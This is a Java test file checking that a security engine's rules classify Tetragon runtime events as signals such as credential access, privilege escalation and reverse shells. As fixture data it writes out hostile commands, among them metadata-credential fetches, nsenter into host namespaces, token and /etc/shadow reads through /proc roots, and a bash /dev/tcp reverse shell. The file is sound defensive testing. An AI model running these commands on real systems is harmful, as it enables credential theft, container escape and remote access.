package dev.strata.job.incident;

import static org.assertj.core.api.Assertions.assertThat;

import dev.strata.detect.sigma.SigmaFixtures;
import dev.strata.job.incident.SignalRules.Signal;
import dev.strata.schema.correlate.Incident;
import dev.strata.schema.event.EvidenceEvent;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;

/**
 * Which Tetragon policy hits are signals (fixtures/tetragon_signals, parsed by the real parser): enforcement actions,
 * sensitive targets and dropped binaries' execs are; routine reads, connects, execs and a setuid to a user are
 * context.
 */
class TetragonSignalsTest {
  static List<EvidenceEvent> events;

  @BeforeAll
  static void parse() throws Exception {
    events = SigmaFixtures.parse(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals"));
  }

  /** Each event's signal reason and stage by its case (the fixture's order), "-" for context. */
  static Map<String, String> verdicts(SignalRules rules) {
    List<String> cases = List.of("shadow_read", "token_write", "routine_read", "sigkill", "override", "notify_enforcer",
        "commit_creds", "setuid_root", "setuid_user", "setns", "module", "ptrace", "cron_write", "cron_read", "connect",
        "exec_tmp", "exec_routine");
    assertThat(events).hasSize(cases.size());
    Map<String, String> out = new LinkedHashMap<>();
    for (int i = 0; i < cases.size(); i++) {
      Signal s = rules.classify(events.get(i));
      out.put(cases.get(i), s == null ? "-" : s.reason() + " " + s.stage() + " " + s.severityId());
    }
    return out;
  }

  @Test
  void enforcementSensitiveTargetsAndDroppedBinariesAreSignalsRoutineHitsAreContext() {
    Map<String, String> want = new LinkedHashMap<>();
    want.put("shadow_read", "tetragon_sensitive_file CREDENTIAL_ACCESS 3");
    want.put("token_write", "tetragon_sensitive_file CREDENTIAL_ACCESS 4");
    want.put("routine_read", "-");
    want.put("sigkill", "tetragon_enforced EXECUTION 4");
    want.put("override", "tetragon_enforced EXECUTION 4");
    want.put("notify_enforcer", "tetragon_enforced EXECUTION 4");
    want.put("commit_creds", "tetragon_privilege PRIVILEGE_ESCALATION 4");
    want.put("setuid_root", "tetragon_privilege PRIVILEGE_ESCALATION 4");
    want.put("setuid_user", "-");
    want.put("setns", "tetragon_namespace PRIVILEGE_ESCALATION 4");
    want.put("module", "tetragon_module PERSISTENCE 4");
    want.put("ptrace", "tetragon_syscall PRIVILEGE_ESCALATION 4");
    want.put("cron_write", "tetragon_persistence_file PERSISTENCE 4");
    want.put("cron_read", "-");
    want.put("connect", "-");
    want.put("exec_tmp", "tetragon_exec_dropped EXECUTION 3");
    want.put("exec_routine", "-");
    assertThat(verdicts(SignalRules.defaults())).containsExactlyEntriesOf(want);
  }

  @Test
  void theRulesAreSettings() {
    TetragonSignals d = TetragonSignals.defaults();
    // a site that calls every tcp_connect of a policy a signal, and does not watch /etc/shadow
    TetragonSignals site = new TetragonSignals(d.enforcementActions(), List.of("/srv/secrets/"), d.persistencePaths(),
        d.privilegeCalls(), d.namespaceCalls(), d.moduleCalls(), Set.of("tcp_connect"), List.of());
    Map<String, String> v = verdicts(IncidentSettings.defaults().withTetragonSignals(site).rules());
    assertThat(v.get("shadow_read")).isEqualTo("-");
    assertThat(v.get("connect")).isEqualTo("tetragon_syscall PRIVILEGE_ESCALATION 4");
    assertThat(v.get("exec_tmp")).isEqualTo("-");
  }

  @Test
  void theSignalsOpenThePodsIncidentAndTheContextJoinsIt() throws Exception {
    List<Incident> incidents = IncidentEngine.incidentsOf(events, IncidentSettings.defaults());
    assertThat(incidents).hasSize(1);
    assertThat(incidents.get(0).getSignals()).isEqualTo(12);
    assertThat(incidents.get(0).getEventCount()).isEqualTo(events.size());
    assertThat(incidents.get(0).getEntities()).extracting(x -> x.getType() + ":" + x.getKey())
        .contains("pod:shop/web-7d9c6b5f4-x2x9q");
    // routine hits alone open nothing
    List<EvidenceEvent> routine = List.of(events.get(2), events.get(8), events.get(13), events.get(14), events.get(16));
    assertThat(IncidentEngine.incidentsOf(routine, IncidentSettings.defaults())).isEmpty();
  }

  /**
   * An exec whose command line fetches cloud credentials from a metadata endpoint (IMDS's security-credentials, the
   * ECS agent's credentials URL) is credential access (CiRunnerEscapeScenarioIT's node shell); a plain curl is not.
   */
  @Test
  void anExecFetchingMetadataCredentialsIsCredentialAccess(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
      throws Exception {
    String template = execTemplate();
    String args = TEMPLATE_ARGS;
    String binary = TEMPLATE_BINARY;
    List<String> lines = List.of(
        template.replace(binary, "\"binary\":\"/usr/bin/curl\"").replace(args,
            "\"arguments\":\"-s -H X-aws-ec2-metadata-token: AQ http://169.254.169.254/latest/meta-data/iam/security-credentials/node-role\""),
        template.replace(binary, "\"binary\":\"/usr/bin/wget\"").replace(args,
            "\"arguments\":\"-qO- http://169.254.170.2/v2/credentials/2f1e\""),
        template.replace(binary, "\"binary\":\"/usr/bin/curl\"").replace(args,
            "\"arguments\":\"-s http://169.254.169.254/latest/meta-data/instance-id\""));
    java.nio.file.Path f = dir.resolve("var/run/cilium/tetragon/tetragon.log");
    java.nio.file.Files.createDirectories(f.getParent());
    java.nio.file.Files.writeString(f, String.join("\n", lines) + "\n");
    List<EvidenceEvent> execs = SigmaFixtures.parse(dir);
    assertThat(execs).hasSize(3);
    SignalRules rules = SignalRules.defaults();
    for (int i = 0; i < 2; i++) {
      Signal s = rules.classify(execs.get(i));
      assertThat(s.reason()).isEqualTo("tetragon_metadata_credentials");
      assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.CREDENTIAL_ACCESS);
      assertThat(s.severityId()).isEqualTo(4);
    }
    assertThat(rules.classify(execs.get(2))).as("the instance id is no credential").isNull();
  }

  /**
   * nsenter into PID 1's namespaces from a container is privilege escalation (CrioKubeadmScenarioIT's privileged pod);
   * nsenter into another process's network namespace is not.
   */
  @Test
  void nsenterIntoTheHostsNamespacesFromAContainerIsPrivilegeEscalation(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
      throws Exception {
    String template = execTemplate();
    String args = TEMPLATE_ARGS;
    String binary = TEMPLATE_BINARY;
    List<String> lines = List.of(
        template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"-t 1 -m -u -i -n -p -- bash\""),
        template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"--target=1 --mount -- sh\""),
        template.replace(binary, "\"binary\":\"/usr/bin/nsenter\"").replace(args, "\"arguments\":\"-t 4410 -n ip addr\""));
    java.nio.file.Path f = dir.resolve("var/run/cilium/tetragon/tetragon.log");
    java.nio.file.Files.createDirectories(f.getParent());
    java.nio.file.Files.writeString(f, String.join("\n", lines) + "\n");
    List<EvidenceEvent> execs = SigmaFixtures.parse(dir);
    assertThat(execs).hasSize(3);
    SignalRules rules = SignalRules.defaults();
    for (int i = 0; i < 2; i++) {
      Signal s = rules.classify(execs.get(i));
      assertThat(s.reason()).as(execs.get(i).getProcess().getCmdLine()).isEqualTo("tetragon_nsenter_host");
      assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.PRIVILEGE_ESCALATION);
      assertThat(s.severityId()).isEqualTo(4);
    }
    assertThat(rules.classify(execs.get(2))).as("another process's network namespace").isNull();
  }

  /**
   * A credential file read through another process's root (KubectlDebugScenarioIT: the aws-cli ephemeral container,
   * sharing the ledger container's PID namespace, cat'ing its IRSA token at /proc/1/root/...; a host-PID pod reading
   * the node's shadow file) is credential access from the exec alone; another process's root elsewhere is not.
   */
  @Test
  void aCredentialFileReadThroughAnotherProcesssRootIsCredentialAccess(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir)
      throws Exception {
    String template = execTemplate();
    String args = TEMPLATE_ARGS;
    String binary = TEMPLATE_BINARY;
    List<String> lines = List.of(
        template.replace(binary, "\"binary\":\"/usr/bin/cat\"")
            .replace(args, "\"arguments\":\"/proc/1/root/var/run/secrets/eks.amazonaws.com/serviceaccount/token\""),
        template.replace(binary, "\"binary\":\"/bin/sh\"")
            .replace(args, "\"arguments\":\"-c \\\"cp /proc/4410/root/etc/shadow /tmp/s\\\"\""),
        template.replace(binary, "\"binary\":\"/usr/bin/ls\"").replace(args, "\"arguments\":\"/proc/1/root/app\""),
        template.replace(binary, "\"binary\":\"/usr/bin/cat\"")
            .replace(args, "\"arguments\":\"/var/run/secrets/kubernetes.io/serviceaccount/namespace\""));
    java.nio.file.Path f = dir.resolve("var/run/cilium/tetragon/tetragon.log");
    java.nio.file.Files.createDirectories(f.getParent());
    java.nio.file.Files.writeString(f, String.join("\n", lines) + "\n");
    List<EvidenceEvent> execs = SigmaFixtures.parse(dir);
    assertThat(execs).hasSize(4);
    SignalRules rules = SignalRules.defaults();
    for (int i = 0; i < 2; i++) {
      Signal s = rules.classify(execs.get(i));
      assertThat(s).as(execs.get(i).getProcess().getCmdLine()).isNotNull();
      assertThat(s.reason()).isEqualTo("tetragon_proc_root_credentials");
      assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.CREDENTIAL_ACCESS);
      assertThat(s.severityId()).isEqualTo(4);
    }
    assertThat(rules.classify(execs.get(2))).as("another process's root, no credential").isNull();
    assertThat(rules.classify(execs.get(3))).as("its own path: the file hook's matter").isNull();
  }

  /** bash's /dev/tcp redirection is a reverse shell (CrioKubeadmScenarioIT's notebook); a plain bash -c is not. */
  @Test
  void aShellRedirectedToASocketIsAReverseShell(@org.junit.jupiter.api.io.TempDir java.nio.file.Path dir) throws Exception {
    String template = execTemplate();
    String args = TEMPLATE_ARGS;
    String binary = TEMPLATE_BINARY;
    List<String> lines = List.of(
        template.replace(binary, "\"binary\":\"/bin/bash\"").replace(args,
            "\"arguments\":\"-c \\\"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\\\"\""),
        template.replace(binary, "\"binary\":\"/bin/bash\"").replace(args, "\"arguments\":\"-c \\\"ls /tmp\\\"\""));
    java.nio.file.Path f = dir.resolve("var/run/cilium/tetragon/tetragon.log");
    java.nio.file.Files.createDirectories(f.getParent());
    java.nio.file.Files.writeString(f, String.join("\n", lines) + "\n");
    List<EvidenceEvent> execs = SigmaFixtures.parse(dir);
    assertThat(execs).hasSize(2);
    Signal s = SignalRules.defaults().classify(execs.get(0));
    assertThat(s.reason()).isEqualTo("tetragon_reverse_shell");
    assertThat(s.stage()).isEqualTo(dev.strata.schema.correlate.AttackStage.EXECUTION);
    assertThat(SignalRules.defaults().classify(execs.get(1))).isNull();
  }

  /** The arguments and binary of {@link #execTemplate}'s exec, for a test to replace. */
  static final String TEMPLATE_ARGS = "\"arguments\":\"/srv/app/sync.py\"";
  static final String TEMPLATE_BINARY = "\"binary\":\"/usr/bin/python3\"";

  /** The last Tetragon exec of the signals fixture: a python3 exec in a pod, for a test to vary. */
  static String execTemplate() throws java.io.IOException {
    return java.nio.file.Files.readAllLines(SigmaFixtures.runtimeFixtures().resolveSibling("tetragon_signals")
        .resolve("tetragon/events.json")).stream().filter(l -> !l.isBlank()).reduce((a, b) -> b).orElseThrow();
  }
}
